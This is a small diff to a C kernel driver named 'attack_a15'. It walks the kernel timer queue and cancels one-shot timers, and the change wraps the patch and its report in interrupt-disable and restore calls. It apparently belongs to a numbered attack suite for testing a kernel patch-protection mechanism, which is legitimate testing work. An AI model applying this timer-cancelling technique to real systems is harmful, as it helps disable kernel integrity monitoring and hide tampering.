@@ -18,6 +18,7 @@ status_t driver_entry(struct driver_object *drv)
 	dpc_init(&probe_dpc, probe_fn, NULL);
 	timer_init(&probe, &probe_dpc);
 	timer_set(&probe, PROBE_DELAY_NS, 0);
+	uint64_t pf = a_cli(); /* no pass between the patch and its report */
 	uint64_t f = a_cli();
 	int n = a_kernel_timers(&probe, 0, found, 8);
 	for (int i = 0; i < n; i++)
@@ -26,9 +27,11 @@ status_t driver_entry(struct driver_object *drv)
 	timer_cancel(&probe);
 	if (n <= 0) {
 		printk("attack_a15: no one-shot kernel timer found\n");
+		a_restore(pf);
 		return KPP_STATUS_UNSUCCESSFUL;
 	}
 	printk("attack_a15: walked the timer queue, cancelled %d one-shot kernel timer(s)\n", n);
 	a_patched("attack_a15");
+	a_restore(pf);
 	return KPP_STATUS_SUCCESS;
 }
